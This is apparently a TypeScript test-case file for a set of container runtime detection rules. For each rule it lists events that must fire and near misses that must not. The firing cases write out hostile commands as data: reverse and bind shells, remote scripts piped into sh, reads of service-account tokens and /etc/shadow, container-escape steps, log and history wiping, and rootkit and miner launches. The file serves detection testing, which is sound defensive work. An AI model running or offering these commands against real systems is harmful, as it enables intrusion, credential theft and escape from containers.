// Events that must fire and near misses that must not, per rule of d4c's pack (rules/), keyed by
// rule_id. A case is one document or a list (a sequence, fed in order).
import { type Doc, exec, fileEv, netEv, type ProcSpec, patch } from '../../src/rules/test/helpers.fixture.js';
import { BUSYBOX_CASES } from './busybox-cases.js';
import type { RuleCases } from './case-types.js';
import { DNS_CASES } from './dns-cases.js';

export type { Case, RuleCases } from './case-types.js';

/** A non-interactive exec (the builder's default is interactive). */
const x = (args: string[], p: Partial<ProcSpec> = {}): Doc => exec({ args, interactive: false, ...p });
/** An interactive exec. */
const tty = (args: string[], p: Partial<ProcSpec> = {}): Doc => exec({ args, interactive: true, ...p });
const caps = (...c: string[]) => ({ thread: { capabilities: { effective: c, permitted: c } } });
const privileged = (d: Doc): Doc => patch(d, { container: { security_context: { privileged: true } } });
const ns = (d: Doc, namespace: string): Doc => patch(d, { orchestrator: { namespace } });
const image = (d: Doc, name: string): Doc => patch(d, { container: { image: { name } } });
const op = (operation: string, action: string, path: string, p: ProcSpec = { args: ['sh'] }): Doc =>
  patch(fileEv(action, path, p), { cloud_defend: { operation } });
const write = (path: string, p: ProcSpec = { args: ['sh'] }): Doc => op('modifyFile', 'open', path, p);
const create = (path: string, p: ProcSpec = { args: ['sh'] }): Doc => op('createFile', 'creation', path, p);
const del = (path: string, p: ProcSpec = { args: ['rm', path] }): Doc =>
  op('deleteFile', 'deletion', path, p);
/** A read-only open (needs the read-access feature, issue 8). */
const read = (path: string, p: ProcSpec = { args: ['cat', path] }): Doc =>
  patch(fileEv('open', path, p), { event: { type: ['access'] } });
const SA = '/var/run/secrets/kubernetes.io/serviceaccount/token';

const connect = (ip: string, port: number, p: ProcSpec, transport = 'tcp'): Doc =>
  netEv('connection_attempted', { transport, destination: { ip, port } }, { interactive: false, ...p });
const listen = (port: number, p: ProcSpec): Doc =>
  netEv('listen', { destination: { ip: '0.0.0.0', port } }, { interactive: false, ...p });

export const CASES: Record<string, RuleCases> = {
  'b7499206-752b-49d1-9b85-9847bca9d0a4': {
    name: 'Argument List Padded Past the Sensor Bound in a Container',
    fire: [
      patch(x(['true', ...Array.from({ length: 103 }, () => 'x'.repeat(39))]), {
        process: { args_count: 301, args_truncated: true },
      }),
    ],
    quiet: [
      x(['true', ...Array.from({ length: 103 }, () => 'x'.repeat(39))]),
      patch(fileEv('open', '/etc/passwd'), { process: { args_truncated: true } }),
    ],
  },
  '6cab67ed-f7c0-4bcc-893b-670b7b0e90fb': {
    name: 'Shell or Interpreter One-Liner Connecting Out of a Container',
    fire: [
      connect('203.0.113.7', 4444, { args: ['bash', '-i'] }),
      connect('2001:db8::7', 443, { args: ['sh', '-c', 'exec 3<>/dev/tcp/x/443'] }),
      connect('198.51.100.2', 9001, {
        args: ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.2",9001))'],
      }),
      connect('198.51.100.2', 53, { args: ['perl', '-e', 'use Socket;...'] }),
    ],
    quiet: [
      connect('127.0.0.1', 8080, { args: ['bash', '-c', 'echo > /dev/tcp/127.0.0.1/8080'] }),
      connect('::1', 5432, { args: ['sh'] }),
      connect('10.0.0.9', 5432, { args: ['python3', '/app/manage.py', 'migrate'] }),
      connect('203.0.113.7', 443, { args: ['curl', 'https://example.com'] }),
      connect('10.96.0.10', 53, { args: ['bash'] }, 'udp'),
      netEv(
        'connection_accepted',
        { source: { ip: '203.0.113.7', port: 5000 }, destination: { ip: '10.0.0.5', port: 22 } },
        { args: ['bash'] },
      ),
    ],
  },
  '9e9bcf5a-9792-48f5-a083-3e9da06ddb2a': {
    name: 'Container Connection to the Cloud Instance Metadata Service',
    fire: [
      connect('169.254.169.254', 80, { args: ['curl', 'http://169.254.169.254/latest/meta-data/iam/'] }),
      connect('fd00:ec2::254', 80, { args: ['python3', 'app.py'] }),
      connect('100.100.100.200', 80, { args: ['wget', '-qO-', 'http://100.100.100.200/latest/meta-data/'] }),
    ],
    quiet: [
      ns(connect('169.254.169.254', 80, { args: ['aws-node'] }), 'kube-system'),
      connect('169.254.170.2', 80, { args: ['python3', 'app.py'] }),
      connect('10.0.0.1', 80, { args: ['curl', 'http://10.0.0.1/'] }),
      netEv('bind', { destination: { ip: '169.254.169.254', port: 80 } }, { args: ['imds-proxy'] }),
    ],
  },
  '3bca3eea-2efb-47ce-89c7-92150600c47a': {
    name: 'Bind Shell Listening in a Container',
    fire: [
      listen(4444, { args: ['nc', '-lvnp', '4444', '-e', '/bin/sh'] }),
      listen(1337, { args: ['socat', 'TCP-LISTEN:1337,fork', 'EXEC:/bin/bash'] }),
      listen(9999, { args: ['nc', '-l', '-p', '9999'], name: 'busybox', executable: '/bin/busybox' }),
      listen(8000, {
        args: ['python3', '-c', 'import socket;s=socket.socket();s.bind(("",8000));s.listen()'],
      }),
    ],
    quiet: [
      listen(80, { args: ['nginx', '-g', 'daemon off;'] }),
      listen(8000, { args: ['python3', '-m', 'http.server'] }),
      listen(8080, { args: ['httpd', '-f', '-p', '8080'], name: 'busybox', executable: '/bin/busybox' }),
      netEv(
        'bind',
        { transport: 'udp', destination: { ip: '0.0.0.0', port: 5353 } },
        { args: ['nc', '-u', '-l'] },
      ),
      connect('203.0.113.7', 4444, { args: ['nc', '203.0.113.7', '4444'] }),
    ],
  },
  '82c782d4-b12d-4a45-a3b9-637300f65ca1': {
    name: 'Interactive Shell in a Production Kubernetes Namespace',
    fire: [ns(tty(['bash']), 'payments'), ns(tty(['/bin/sh', '-i']), 'default')],
    quiet: [
      ns(x(['bash', '-c', 'run.sh']), 'payments'),
      ns(tty(['bash']), 'kube-system'),
      ns(tty(['bash']), 'team-debug'),
      ns(tty(['python3']), 'payments'),
      image(ns(tty(['bash']), 'payments'), 'docker.io/nicolaka/netshoot'),
      patch(tty(['bash']), { orchestrator: undefined }),
    ],
  },
  '0ce9e30a-fe21-4fb5-8de0-cdd32200c876': {
    name: 'Executable Created or Modified in a System Directory of a Container',
    fire: [
      op('createExecutable', 'creation', '/usr/bin/sshd2', { args: ['cp', '/tmp/x', '/usr/bin/sshd2'] }),
      op('modifyExecutable', 'modification', '/etc/cron.daily/job', {
        args: ['chmod', '+x', '/etc/cron.daily/job'],
      }),
      op('modifyExecutable', 'open', '/bin/ls', { args: ['sh'] }),
    ],
    quiet: [
      op('createExecutable', 'creation', '/usr/bin/curl', { args: ['dpkg', '-i', 'curl.deb'] }),
      op('createExecutable', 'creation', '/opt/app/bin/run', { args: ['cp'] }),
      op('createFile', 'creation', '/etc/motd', { args: ['sh'] }),
      op('createExecutable', 'creation', '/usr/binx/tool', { args: ['cp'] }),
    ],
  },
  '47d5bd03-2f59-42cb-8b0e-c39f551b544d': {
    name: 'Container Administration Tool Executed Inside a Container',
    fire: [
      x(['kubectl', 'get', 'pods', '-A']),
      x(['crictl', 'ps']),
      x(['/usr/bin/docker', 'run', '-it', 'alpine']),
      x(['nerdctl', 'run', '--privileged', '-v', '/:/host', 'alpine']),
    ],
    quiet: [
      x(['kubectl', 'version']),
      x(['kubectl', 'version', '--client']),
      x(['docker', '--help']),
      x(['kubectl-lint', 'get']),
    ],
  },
  '937d4792-c92a-4075-a65d-e8264ee21ba1': {
    name: 'Kubernetes Secrets, Exec or Permission Probing via kubectl in a Container',
    fire: [
      x(['kubectl', 'get', 'secrets', '-A']),
      x(['kubectl', 'auth', 'can-i', '--list']),
      x(['kubectl', 'exec', '-it', 'db-0', '--', 'sh']),
    ],
    quiet: [
      x(['kubectl', 'get', 'pods']),
      x(['kubectl', 'apply', '-f', 'secret.yaml']),
      x(['cat', 'secrets']),
    ],
  },
  '5d7a19b5-6273-4e9a-8f26-85dd2deb8ada': {
    name: 'Container Runtime Socket Used from a Container',
    fire: [
      x(['curl', '--unix-socket', '/var/run/docker.sock', 'http://localhost/containers/json']),
      x(['ctr', '-a', '/run/containerd/containerd.sock', 'c', 'ls']),
      x(['crictl', '--runtime-endpoint', 'unix:///run/crio/crio.sock', 'ps']),
    ],
    quiet: [x(['ls', '-l', '/var/run/docker.sock']), x(['curl', 'http://localhost/containers/json'])],
  },
  '0831ca98-df91-475d-a15e-5fdfc29d0695': {
    name: 'nsenter Into the Host Init Namespaces from a Container',
    fire: [
      x(['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'bash']),
      x(['nsenter', '--target=1', '--mount', 'sh']),
      x(['nsenter', '-t1', '-a']),
    ],
    quiet: [
      x(['nsenter', '-t', '4242', '-n', 'ip', 'a']),
      x(['nsenter', '--net=/var/run/netns/cni-1', 'ip', 'a']),
    ],
  },
  '43ecfe9b-098f-4e64-ac18-ff34307d6010': {
    name: 'Host Block Device Mounted in a Privileged Container',
    fire: [
      privileged(x(['mount', '/dev/sda1', '/mnt'])),
      privileged(x(['mount', '-t', 'ext4', '/dev/nvme0n1p1', '/h'])),
    ],
    quiet: [
      x(['mount', '/dev/sda1', '/mnt']),
      privileged(x(['mount', '-t', 'tmpfs', 'tmpfs', '/mnt'])),
      privileged(x(['mount', '/dev/shm', '/x'])),
    ],
  },
  '798ef938-247a-4886-a773-1f5229374b4c': {
    name: 'cgroup release_agent or notify_on_release Written from a Container',
    fire: [
      write('/tmp/cgrp/release_agent'),
      write('/sys/fs/cgroup/rdma/x/notify_on_release'),
      x(['sh', '-c', 'echo /cmd > /tmp/cgrp/release_agent']),
      x(['sh', '-c', 'echo 1 > /tmp/cgrp/x/notify_on_release']),
      x(['tee', '/tmp/cgrp/release_agent']),
    ],
    quiet: [
      write('/tmp/cgrp/cgroup.procs'),
      read('/sys/fs/cgroup/release_agent', { args: ['cat'] }),
      del('/tmp/release_agent.bak'),
    ],
  },
  '614096ac-1619-44b8-89b0-584fbb9c7eda': {
    name: 'Kernel core_pattern Changed from a Container',
    fire: [
      write('/proc/sys/kernel/core_pattern'),
      write('/host/proc/sys/kernel/core_pattern'),
      x(['sysctl', '-w', 'kernel.core_pattern=|/tmp/x']),
      x(['sh', '-c', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern']),
      x(['tee', '/proc/sys/kernel/core_pattern']),
    ],
    quiet: [
      write('/proc/sys/kernel/core_uses_pid'),
      x(['sysctl', '-w', 'net.ipv4.ip_forward=1']),
      x(['cat', '/proc/sys/kernel/core_pattern']),
      x(['sysctl', 'kernel.core_pattern']),
    ],
  },
  '8b9c3bdb-5431-459c-b2f0-11c57c8c00c2': {
    name: 'debugfs Run Against a Block Device in a Container',
    fire: [x(['debugfs', '-w', '/dev/sda1']), x(['debugfs', '/dev/nvme0n1p1'])],
    quiet: [x(['debugfs', '-V']), x(['debugfs', 'image.ext4'])],
  },
  '46e5a535-6e77-4235-9289-f0570742987e': {
    name: 'unshare Creating New User or Mount Namespaces in a Container',
    fire: [x(['unshare', '-UrmC', 'bash']), x(['unshare', '--user', '--map-root-user', 'sh'])],
    quiet: [x(['unshare', '--net', 'ip', 'a']), x(['unshare', '--help'])],
  },
  '67ffb3e3-e661-49dc-9d46-7306e4cc91b4': {
    name: 'chroot Into a Host Filesystem Mount from a Container',
    fire: [x(['chroot', '/host', 'bash']), x(['chroot', '/proc/1/root', 'sh']), x(['chroot', '/hostfs'])],
    quiet: [x(['chroot', '/srv/jail', 'sh']), x(['chroot', '/hostile', 'sh'])],
  },
  '58201afd-12fc-4351-8662-38e8e8dcdcd0': {
    name: 'Host Filesystem Accessed Through /proc/1/root from a Container',
    fire: [
      x(['cat', '/proc/1/root/etc/shadow']),
      x(['ls', '/proc/1/root/']),
      x(['readlink', '/proc/1/ns/mnt']),
    ],
    quiet: [x(['cat', '/proc/1/status']), x(['cat', '/proc/12/root/etc/hosts']), x(['ps', '/proc/1/root'])],
  },
  '7272f655-a441-4ba9-8066-3edf91fd4354': {
    name: 'Kubernetes Service-Account Token Read by a Shell or Utility',
    fire: [
      read(SA),
      read('/run/secrets/kubernetes.io/serviceaccount/ca.crt', { args: ['curl', '--cacert', 'ca.crt'] }),
      read(SA, { args: ['base64', SA] }),
    ],
    quiet: [
      read(SA, { args: ['/app/server'], name: 'server' }),
      read('/etc/hosts', { args: ['cat', '/etc/hosts'] }),
      write(SA, { args: ['cat'] }),
    ],
  },
  '2355bb5c-3d68-42a8-a266-b03e634b00d4': {
    name: 'Mounted Secret Read from an Interactive Session',
    fire: [
      read('/run/secrets/db-password', { args: ['cat', '/run/secrets/db-password'], interactive: true }),
      read(SA, { args: ['less', SA], interactive: true }),
    ],
    quiet: [
      read('/run/secrets/db-password', { args: ['/app/server'], interactive: false }),
      read('/etc/passwd', { args: ['cat'], interactive: true }),
    ],
  },
  '26bff0e7-62e4-4f32-b427-6205442998d3': {
    name: 'Service-Account Token Path in a Command Line',
    fire: [
      x(['cat', SA]),
      x(['sh', '-c', `curl -k -H "Authorization: Bearer $(cat ${SA})" https://kubernetes.default/api`]),
    ],
    quiet: [
      x(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace']),
      x(['kubectl', '--token-file', SA, 'get', 'pods']),
    ],
  },
  'c7f0ab56-b721-417a-96c5-5680e0af6c3f': {
    name: 'CAP_SYS_ADMIN Used by Namespace or Mount Tools in a Non-Privileged Container',
    fire: [
      x(['mount', '-t', 'cgroup', '-o', 'rdma', 'cgroup', '/tmp/c'], caps('CAP_CHOWN', 'CAP_SYS_ADMIN')),
      tty(['bash'], caps('CAP_ALL')),
    ],
    quiet: [
      privileged(x(['mount', '/dev/sda1', '/mnt'], caps('CAP_ALL'))),
      x(['mount', '-t', 'tmpfs', 'x', '/y'], caps('CAP_CHOWN', 'CAP_NET_BIND_SERVICE')),
      x(['/app/server'], caps('CAP_SYS_ADMIN')),
    ],
  },
  '2aeab67d-9bdb-4903-958a-26e627ee33ec': {
    name: 'Debugger or Process Memory Access with CAP_SYS_PTRACE in a Non-Privileged Container',
    fire: [
      x(['gdb', '-p', '4242'], caps('CAP_SYS_PTRACE')),
      x(['dd', 'if=/proc/77/mem', '/proc/77/mem'], caps('CAP_ALL')),
    ],
    quiet: [
      x(['gdb', '-p', '4242'], caps('CAP_CHOWN')),
      privileged(x(['strace', '-p', '1'], caps('CAP_ALL'))),
      x(['cat', '/proc/77/status'], caps('CAP_SYS_PTRACE')),
    ],
  },
  '3167cfff-6452-42e2-805f-b82bd75d9c17': {
    name: 'Shell with CAP_SYS_MODULE in a Non-Privileged Container',
    fire: [x(['sh', '-c', 'id'], caps('CAP_SYS_MODULE')), x(['insmod', 'r.ko'], caps('CAP_SYS_MODULE'))],
    quiet: [
      x(['/app/server'], caps('CAP_SYS_MODULE')),
      privileged(tty(['bash'], caps('CAP_ALL'))),
      x(['sh'], caps('CAP_NET_RAW')),
    ],
  },
  '8e7cbbb7-9ffa-472d-8c27-7e4f1abd47ea': {
    name: 'Network Configuration or Sniffing Tool with CAP_NET_ADMIN in a Non-Privileged Container',
    fire: [
      x(['iptables', '-F'], caps('CAP_NET_ADMIN', 'CAP_NET_RAW')),
      x(['tcpdump', '-i', 'any', '-w', '/tmp/p.pcap'], caps('CAP_NET_ADMIN')),
    ],
    quiet: [
      x(['iptables', '-L'], caps('CAP_NET_ADMIN')),
      x(['iptables', '-F'], caps('CAP_NET_RAW')),
      privileged(x(['iptables', '-F'], caps('CAP_ALL'))),
    ],
  },
  '9a7fef77-71ab-4957-9a17-99fe40976cc5': {
    name: 'Shell with CAP_DAC_READ_SEARCH in a Non-Privileged Container',
    fire: [
      tty(['bash'], caps('CAP_DAC_READ_SEARCH')),
      x(['sh', '-c', './shocker'], caps('CAP_DAC_READ_SEARCH')),
    ],
    quiet: [
      x(['/usr/bin/restic', 'backup'], caps('CAP_DAC_READ_SEARCH')),
      tty(['bash'], caps('CAP_DAC_OVERRIDE')),
    ],
  },
  'c750e586-8134-4e69-be88-01110894b49c': {
    name: "Process Exec'd Into a Container",
    fire: [
      // podman/kubectl exec without a terminal, and with one: the session's first process.
      x(['cat', '/etc/passwd'], { container_entry: 'exec', session_leader: { same_as_process: true } }),
      tty(['sh'], { container_entry: 'exec', session_leader: { same_as_process: true } }),
      x(['sh'], { container_entry: 'nsenter', parent: { name: 'nsenter' } }),
      // The exec's first image: before it, the runtime's (runc init), not a shell of the session.
      x(['sh', '-c', 'id; sleep 0'], {
        container_entry: 'exec',
        session_leader: { same_as_process: true },
        previous: [{ executable: '/proc/self/exe', args: ['runc', 'init'] }],
      }),
    ],
    quiet: [
      // The container's own entrypoint, a shell session leader like an exec.
      x(['sh', '-c', 'sleep 1d'], {
        container_entry: 'init',
        container_init: true,
        session_leader: { same_as_process: true },
      }),
      // What an exec'd shell runs next: the same session, not a new entry.
      x(['id'], { container_entry: 'exec', session_leader: { same_as_process: false } }),
      // `sh -c '…; sleep 0'`: the shell execs its last command in place, the same session leader.
      x(['sleep', '0'], {
        container_entry: 'exec',
        session_leader: { same_as_process: true },
        previous: [{ executable: '/bin/sh', args: ['sh', '-c', 'id; sleep 0'] }],
      }),
      // A daemon of the init tree starting its own session.
      x(['crond'], { container_entry: 'init', session_leader: { same_as_process: true } }),
      // Without the marking (older documents): not guessed.
      tty(['sh'], { session_leader: { same_as_process: true } }),
    ],
  },
  '65696109-bfa9-43be-af1b-34419f2bf96c': {
    name: 'Interactive Shell in a Privileged Container',
    fire: [privileged(tty(['bash'])), privileged(tty(['/bin/sh']))],
    quiet: [tty(['bash']), privileged(x(['sh', '-c', '/entrypoint.sh'])), privileged(tty(['vim']))],
  },
  '5e596e24-e498-44d2-ac3d-5ef5f75f1a88': {
    name: 'Binary Executed from a Host Mount in a Privileged Container',
    fire: [privileged(x(['/host/bin/bash'])), privileged(x(['/proc/1/root/usr/bin/kubelet', '--version']))],
    quiet: [x(['/host/bin/bash']), privileged(x(['/hostname'])), privileged(x(['/usr/bin/host']))],
  },
  '818a21c9-037b-4bd8-88f8-a7da818d095e': {
    name: 'Container Drift: Executable Created Then Executed',
    fire: [
      [op('createExecutable', 'creation', '/tmp/xmr', { args: ['curl', '-o', '/tmp/xmr'] }), x(['/tmp/xmr'])],
      [
        op('modifyExecutable', 'open', '/usr/local/bin/helper', { args: ['chmod', '+x'] }),
        x(['sh', '-c', 'helper'], {}),
        x(['/usr/local/bin/helper', '-d']),
      ],
    ],
    quiet: [
      // another path
      [op('createExecutable', 'creation', '/tmp/xmr', { args: ['curl'] }), x(['/tmp/other'])],
      // too late (> 5 min)
      [
        op('createExecutable', 'creation', '/tmp/xmr', { args: ['curl'] }),
        exec({ args: ['/tmp/xmr'], interactive: false }, {}, 6 * 60_000),
      ],
      // another container
      [
        op('createExecutable', 'creation', '/tmp/xmr', { args: ['curl'] }),
        patch(x(['/tmp/xmr']), { container: { id: 'f'.repeat(64) } }),
      ],
      // built by a compiler
      [op('createExecutable', 'creation', '/tmp/a.out', { args: ['gcc', 'main.c'] }), x(['/tmp/a.out'])],
      // a plain (non-executable) file
      [op('createFile', 'creation', '/tmp/run.sh', { args: ['sh'] }), x(['/tmp/run.sh'])],
      // the exec says process.drift itself: "Executable Not in the Image Executed" covers it
      [op('createExecutable', 'creation', '/tmp/xmr', { args: ['curl'] }), x(['/tmp/xmr'], { drift: true })],
    ],
  },
  '5b0f3a52-9d7e-4c1e-8f3b-2a6d1e7c4f90': {
    name: 'Container Drift: Executable Not in the Image Executed',
    fire: [x(['/tmp/busybox', 'wget', 'http://x/p'], { drift: true }), tty(['./payload'], { drift: true })],
    quiet: [
      x(['/bin/busybox', 'ls'], { drift: false }),
      x(['/tmp/busybox']), // unknown: no process.drift
      x(['apt-get', 'install', '-y', 'curl'], { drift: true }),
      patch(x(['/tmp/busybox'], { drift: true }), { event: { action: 'fork' } }),
    ],
  },
  '05353486-fe3e-4e37-a82a-4dadf9e51af8': {
    name: 'Remote Content Piped into a Shell or Interpreter in a Container',
    fire: [
      x(['sh', '-c', 'curl -fsSL http://1.2.3.4/i.sh | sh']),
      x(['bash', '-c', 'wget -q -O- https://x.example/a | bash -s']),
      x(['sh', '-c', 'curl -s http://x/p.py | python3 -']),
    ],
    quiet: [
      x(['sh', '-c', 'curl -fsS http://localhost:8080/healthz | grep ok']),
      x(['sh', '-c', 'curl -o /tmp/x http://1.2.3.4/x']),
      x(['sh', '-c', 'curl -s http://localhost/install.sh | sh']),
      x(['curl', 'http://x/i.sh', '|', 'sh']),
    ],
  },
  'c2de61c9-3a44-45b1-9992-b61f64f93416': {
    name: 'Remote File Download Tool Run in a Container',
    fire: [
      x(['curl', '-fsSLo', '/tmp/x', 'https://evil.example/x']),
      x(['wget', 'http://1.2.3.4/kinsing']),
      x(['busybox', 'wget', 'http://1.2.3.4/a', '-O', '/tmp/a']),
      x(['python3', '-c', 'import urllib.request;urllib.request.urlretrieve("http://e/x","/tmp/x")']),
    ],
    quiet: [
      x(['curl', '-f', 'http://localhost:8080/healthz']),
      x(['wget', '-q', '--spider', 'http://127.0.0.1/ready']),
      x(['python3', '-c', 'print(1)']),
      x(['curl', '--version']),
    ],
  },
  '23062286-7b8a-4587-9c05-ba1a2f4a013b': {
    name: 'Executable Written to a Temporary Directory in a Container',
    fire: [
      op('createExecutable', 'creation', '/tmp/kdevtmpfsi', { args: ['wget'] }),
      op('modifyExecutable', 'open', '/dev/shm/.x', { args: ['chmod', '+x', '/dev/shm/.x'] }),
    ],
    quiet: [
      op('createFile', 'creation', '/tmp/data.json', { args: ['sh'] }),
      op('createExecutable', 'creation', '/tmp/a.out', { args: ['ld'] }),
      op('createExecutable', 'creation', '/opt/app/run', { args: ['cp'] }),
    ],
  },
  '07538371-cecc-4c46-b332-871f46668f84': {
    name: 'Reverse Shell via /dev/tcp or /dev/udp Redirection',
    fire: [
      x(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']),
      x(['sh', '-c', 'exec 5<>/dev/tcp/1.2.3.4/80;cat <&5 | sh >&5']),
    ],
    quiet: [x(['bash', '-c', 'echo ok > /tmp/x']), x(['cat', '/dev/tcp/1.2.3.4/80'])],
  },
  'e54dbef8-7fe5-4291-867c-463e754861d2': {
    name: 'Netcat Executing a Program for a Remote Peer',
    fire: [
      x(['nc', '-e', '/bin/sh', '10.0.0.1', '4444']),
      x(['ncat', '--sh-exec', 'bash', '1.2.3.4', '9']),
      x(['busybox', 'nc', '1.2.3.4', '9', '-e', 'sh']),
    ],
    quiet: [x(['nc', '-zv', 'db', '5432']), x(['grep', '-e', 'x', 'nc'])],
  },
  '12abf0ad-f79b-4044-ab6b-616b2cc862e8': {
    name: 'socat Connecting a Shell to the Network',
    fire: [
      x(['socat', 'exec:bash -li,pty,stderr,setsid,sigint,sane', 'tcp:10.0.0.1:4444']),
      x(['socat', 'TCP-LISTEN:9999,fork', 'SYSTEM:/bin/sh']),
    ],
    quiet: [x(['socat', 'TCP-LISTEN:8080,fork', 'TCP:backend:80']), x(['socat', 'exec:date', 'stdout'])],
  },
  '6498c9f5-8b0f-4316-a55c-120313feeb16': {
    name: 'Scripting Language One-Liner Connecting a Shell to a Socket',
    fire: [
      x([
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
      ]),
      x([
        'perl',
        '-e',
        'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,1);open(STDIN,">&S");exec("/bin/sh -i");',
      ]),
      x(['php', '-r', '$s=fsockopen("1.2.3.4",9);proc_open("sh",[$s,$s,$s],$p);']),
    ],
    quiet: [
      x(['python3', '-c', 'import socket;socket.create_connection(("db",5432))']),
      x(['python3', 'server.py', 'socket', 'subprocess']),
    ],
  },
  '6cc1436e-6cb9-4d9d-9d36-19ec8de72f6b': {
    name: 'Shell Upgraded to a PTY with a Scripting One-Liner',
    fire: [
      x(['python3', '-c', 'import pty; pty.spawn("/bin/bash")']),
      x(['script', '-qc', '/bin/bash', '/dev/null']),
    ],
    quiet: [x(['python3', '-c', 'import os']), x(['script', '-q', 'session.log'])],
  },
  'e96115dd-a6f3-4aae-a253-28a12ea01f4c': {
    name: 'Cron Job Created or Modified in a Container',
    fire: [create('/etc/cron.d/update'), write('/var/spool/cron/crontabs/root'), x(['crontab', '/tmp/c'])],
    quiet: [x(['crontab', '-l']), read('/etc/crontab', { args: ['cat'] }), write('/etc/cronjob.conf')],
  },
  '453a98d8-07ea-478f-b0b4-082e71c02844': {
    name: 'Dynamic Linker Preload File Modified in a Container',
    fire: [create('/etc/ld.so.preload'), write('/etc/ld.so.preload')],
    quiet: [
      write('/etc/ld.so.conf'),
      del('/etc/ld.so.preload'),
      read('/etc/ld.so.preload', { args: ['ls'] }),
    ],
  },
  '510bf7b5-0f8e-4edb-9355-af33e7354b8e': {
    name: 'SSH authorized_keys Modified in a Container',
    fire: [write('/root/.ssh/authorized_keys'), create('/home/app/.ssh/authorized_keys')],
    quiet: [write('/root/.ssh/known_hosts'), create('/home/app/.ssh/id_ed25519.pub')],
  },
  '34dcd436-4cea-443a-b080-63c057d23a12': {
    name: 'Account or Sudo Configuration Modified in a Container',
    fire: [
      write('/etc/passwd', { args: ['useradd', 'x'] }),
      write('/etc/shadow'),
      create('/etc/sudoers.d/x'),
    ],
    quiet: [
      write('/etc/passwd', { args: ['apk', 'add', 'shadow'] }),
      write('/etc/passwd-'),
      write('/etc/hosts'),
    ],
  },
  'ac1163da-14a8-4bef-a718-f613a6ead7a4': {
    name: 'Systemd Unit or Init Script Created in a Container',
    fire: [
      create('/etc/systemd/system/miner.service'),
      create('/host/etc/systemd/system/x.service'),
      write('/etc/rc.local'),
    ],
    quiet: [create('/etc/systemd/system/x.service', { args: ['dpkg', '-i'] }), write('/etc/systemd.conf')],
  },
  '17d092c6-bd84-4b1f-a857-6a0e9336f075': {
    name: 'Shell Profile Script Modified in a Container',
    fire: [write('/root/.bashrc'), create('/etc/profile.d/zz.sh'), write('/home/app/.profile')],
    quiet: [
      write('/root/.bashrc.swp'),
      write('/etc/profile.d/x.sh', { args: ['apt-get', 'install'] }),
      write('/app/.bashrc'),
    ],
  },
  '719b9bc0-fbf5-425c-b043-a28689ceedd2': {
    name: 'Shell History Cleared or Disabled in a Container',
    fire: [
      del('/root/.bash_history'),
      x(['rm', '-f', '/root/.bash_history']),
      x(['ln', '-sf', '/dev/null', '/root/.bash_history']),
      x(['bash', '-c', 'unset HISTFILE; ./x']),
    ],
    quiet: [del('/root/.bash_logout'), x(['cat', '/root/.bash_history']), x(['rm', '/tmp/history.txt'])],
  },
  '2a57c911-96a7-4275-96df-2d1eeab77f01': {
    name: 'System Logs Deleted or Truncated in a Container',
    fire: [
      del('/var/log/auth.log'),
      x(['truncate', '-s', '0', '/var/log/nginx/access.log']),
      x(['shred', '-u', '/var/log/wtmp']),
    ],
    quiet: [
      del('/var/log/app.log.1', { args: ['logrotate', '/etc/logrotate.conf'] }),
      del('/var/lib/x.log'),
      x(['tail', '-f', '/var/log/nginx/access.log']),
    ],
  },
  'c265f253-0af8-4fc4-b607-88831a046bfc': {
    name: 'Package Installed at Runtime in a Container',
    fire: [
      x(['apt-get', 'install', '-y', 'nmap']),
      x(['apk', 'add', 'curl']),
      x(['pip3', 'install', 'requests']),
      x(['rpm', '-ivh', 'x.rpm']),
    ],
    quiet: [x(['apt-get', 'update']), x(['apk', 'info']), x(['pip', 'list']), x(['rpm', '-qa'])],
  },
  '7577556b-05fd-4fa0-9775-6e1b39ef3d52': {
    name: 'Cryptocurrency Miner Run in a Container',
    fire: [
      x(['/tmp/xmrig', '-o', 'pool.example:3333']),
      x(['/tmp/.x/sys', '-o', 'stratum+tcp://pool.example:3333', '-u', 'w']),
      x(['/tmp/.x/sys', '--donate-level=1']),
    ],
    quiet: [x(['/usr/bin/node', 'server.js', '--stratum']), x(['/app/miner-exporter'])],
  },
  'd5c4f83e-3cb1-4fba-a2d9-95964c2cfcfd': {
    name: 'Container Environment Reconnaissance via cgroup or mountinfo',
    fire: [
      x(['cat', '/proc/self/cgroup']),
      x(['ls', '-la', '/.dockerenv']),
      x(['grep', 'Cap', '/proc/1/status']),
      x(['capsh', '--print']),
    ],
    quiet: [x(['cat', '/proc/cpuinfo']), x(['java', '/proc/self/cgroup']), x(['ls', '/proc'])],
  },
  'dd9e4e67-653e-48b1-bc37-4b387e9a91ac': {
    name: 'Container Escape or Cluster Recon Toolkit Executed',
    fire: [x(['/tmp/cdk', 'evaluate']), x(['./amicontained']), x(['sh', '/tmp/deepce.sh'])],
    quiet: [x(['sh', '/tmp/setup.sh']), x(['cdkctl', 'status'])],
  },
  '79ff923f-4517-44d6-a696-03d5a6ca304c': {
    name: 'Kernel Module Loaded from a Container',
    fire: [x(['insmod', '/tmp/rootkit.ko']), x(['modprobe', 'nf_conntrack']), x(['kmod', 'load', 'x'])],
    quiet: [x(['modprobe', '-n', 'x']), x(['modprobe', '-r', 'x']), x(['lsmod']), x(['kmod', 'list'])],
  },
};

Object.assign(CASES, DNS_CASES);

// Busybox applet forms of the rules above, and the rules added with them (busybox-cases.ts).
for (const [ruleId, c] of Object.entries(BUSYBOX_CASES)) {
  const t = CASES[ruleId];
  if (!t) CASES[ruleId] = c;
  else if (t.name !== c.name) throw new Error(`busybox cases ${ruleId}: '${c.name}' is not '${t.name}'`);
  else {
    t.fire.push(...c.fire);
    t.quiet.push(...c.quiet);
  }
}
